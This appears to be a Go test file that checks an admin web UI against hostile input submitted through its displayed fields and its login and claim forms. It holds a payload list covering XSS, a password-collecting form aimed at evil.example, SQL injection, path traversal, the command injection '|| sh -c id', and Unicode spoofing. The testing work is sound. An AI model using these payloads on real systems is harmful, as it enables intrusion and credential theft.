package webui

import (
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"gatepost/webui/foreign"
)

// payloads are texts that strangers may send to do harm.
func payloads() []string {
	return []string{
		`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<iframe src="javascript:alert(1)">`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<a href="javascript:alert(1)">x</a>`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>*{display:none}</style>`, `<form action="//evil.example"><input name=password>`,
		`<button formaction="//evil.example">Log in</button>`, `<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<video><source onerror=alert(1)></video>`,
		`" autofocus onfocus="alert(1)`, `' autofocus onfocus='alert(1)`, `x" style="position:fixed;inset:0`, `--><script>alert(1)</script>`, `<!--`, `]]>`, `<![CDATA[<script>alert(1)</script>]]>`,
		`{{.}}`, `{{define "main"}}x{{end}}`, `{domain} {count, plural, one {#} other {#}}`, `${alert(1)}`, `%3Cscript%3Ealert(1)%3C/script%3E`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`,
		"\u202egnp.exe", "\u2066\u2067\u2068x\u2069", "a\u200b\u200c\u200d\ufeffb", "line\r\nSet-Cookie: x=1", "a\x00b", "\x1b[2J\x1b]0;x\x07", "\x7f\x80\x9f", "\xff\xfe<script>", "\xed\xa0\x80",
		"x" + strings.Repeat("\u0301", 500), strings.Repeat("A", 64<<10), strings.Repeat("<b>", 5000), "\u3164\u2800", "\U000e0041\U000e0042", "xn--\u202e", "xn--80ak6aa92e.com", "аррӏе.com", "\u2028\u2029",
		`'; DROP TABLE mail; --`, `../../../etc/passwd`, `|| sh -c id`, "‹U+202E›", `<bdo dir=rtl>x</bdo>`, `</bdi></p></main><h1>Your box was hacked`,
	}
}

// shape lists the elements of a page with their attribute names, in order, and
// the values of the attributes that lead somewhere. It leaves out <bdi> and
// <time>: how many a sentence has depends on the variant that fits.
func shape(t *testing.T, page string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.CommentNode {
			out = append(out, "comment")
		}
		if n.Type == html.ElementNode && n.Data != "bdi" && n.Data != "time" {
			s := n.Data
			for _, a := range n.Attr {
				s += " " + a.Key
				if a.Key == "href" || a.Key == "action" || a.Key == "src" {
					value, _, _ := strings.Cut(a.Val, "?")
					s += "=" + value
				}
			}
			out = append(out, s)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return out
}

// hostilePages are the pages with s in every place where a stranger's text can
// be.
func hostilePages(t *testing.T, s *site, b *browser, text string) map[string]string {
	t.Helper()
	f := foreign.Text(text)
	list := []foreign.Text{f, f, f}
	at := tuesday.Add(-1)
	a := Attempt{
		Time: at, Outcome: "held", Reason: "certificate-host-mismatch", Rule: text, MX: f, Addr: f, Protection: text, TLSVersion: text, Cipher: text,
		CertNames: list, CertIssuer: f, CertNotAfter: at, PolicyMode: text, PolicyID: f, PolicyFetched: at, PolicyExpires: at, PolicyMX: list, PolicyNote: text,
		Code: 550, Enhanced: f, Reply: f, Detail: f, MXTried: 1,
	}
	m := Message{ID: text, From: f, To: f, Domain: f, Subject: f, Size: 1, Received: at, Next: tuesday.Add(1e12), Deadline: tuesday.Add(1e14), Tries: 1, Last: a}
	unknown := m
	unknown.Last.Outcome, unknown.Last.Reason = "deferred", text
	s.back.list = []Message{m, unknown}
	all := map[string]string{"count": text, "percent": text, "domain": text, "error": text, "since": text, text: text}
	s.back.home = Home{
		Hostname: text, Level: Level(text), Light: text, Box: &Box{Version: text, Started: at, Address: text}, Queue: &Queue{Held: 1, Oldest: at},
		Problems: []Problem{{ID: "held-mail", Level: LevelLook, Params: all}, {ID: "config-broken-default", Level: LevelBroken, Params: all}, {ID: text, Level: Level(text), Params: all}},
	}
	pages := map[string]string{}
	for _, path := range []string{"/", "/waiting", "/waiting?group=" + groupID(m)} {
		res, body := b.get(path)
		if res.StatusCode != 200 {
			t.Fatalf("%s with %.40q: got %d, want 200", path, text, res.StatusCode)
		}
		path, _, _ = strings.Cut(path, "=")
		pages[path] = body
	}
	return pages
}

// TestHostileText: whatever a stranger writes, the pages keep their elements,
// links and forms, and show the text as text.
func TestHostileText(t *testing.T) {
	if n := len(payloads()); n < 40 {
		t.Fatalf("got %d payloads, want at least 40", n)
	}
	s := newOwnedSite(t)
	b := s.anna()
	want := map[string][]string{}
	for path, page := range hostilePages(t, s, b, "harmless") {
		want[path] = shape(t, page)
	}
	for _, p := range payloads() {
		for path, page := range hostilePages(t, s, b, p) {
			got := shape(t, page)
			for i := range max(len(got), len(want[path])) {
				if i >= len(got) || i >= len(want[path]) || got[i] != want[path][i] {
					t.Errorf("%s with %.60q: the page changes at element %d: got %v, want %v", path, p, i, tail(got, i), tail(want[path], i))
					break
				}
			}
			for _, r := range page {
				if r != '\n' && unicode.In(r, unicode.C, unicode.Zl, unicode.Zp) {
					t.Errorf("%s with %.60q: the page holds the invisible %U", path, p, r)
					break
				}
			}
			if len(page) > 200_000 {
				t.Errorf("%s with %.60q: got %d bytes", path, p, len(page))
			}
			shown := spaces.ReplaceAllString(foreign.Text(p).Cut(60), " ")
			if !strings.Contains(visibleText(t, page), strings.TrimSuffix(shown, "…")) {
				t.Errorf("%s: the text %.60q is not shown as %q", path, p, shown)
			}
		}
	}
}

func tail(s []string, i int) []string { return s[min(i, len(s)):min(i+3, len(s))] }

// TestHostileForms: what a visitor types comes back as text or not at all.
func TestHostileForms(t *testing.T) {
	owned, fresh := newOwnedSite(t), newSite(t, nil)
	_, plain := owned.browser().post("/login", "name", "harmless", "password", "x")
	_, plainClaim := fresh.browser().post("/claim", "code", "x")
	for _, p := range payloads() {
		owned.pass(2 * 60e9)
		fresh.pass(2 * 60e9)
		res, page := owned.browser().post("/login", "name", p, "password", p)
		if res.StatusCode != 403 || strings.Join(shape(t, page), "\n") != strings.Join(shape(t, plain), "\n") {
			// A name that cannot be one is not repeated: the field is then empty and
			// takes the focus.
			if !strings.Contains(page, `value="" autofocus`) {
				t.Errorf("login with %.60q: got %d and another page", p, res.StatusCode)
			}
		}
		_, page = fresh.browser().post("/claim", "code", p)
		if strings.Join(shape(t, page), "\n") != strings.Join(shape(t, plainClaim), "\n") {
			t.Errorf("claim with %.60q: another page", p)
		}
	}
}
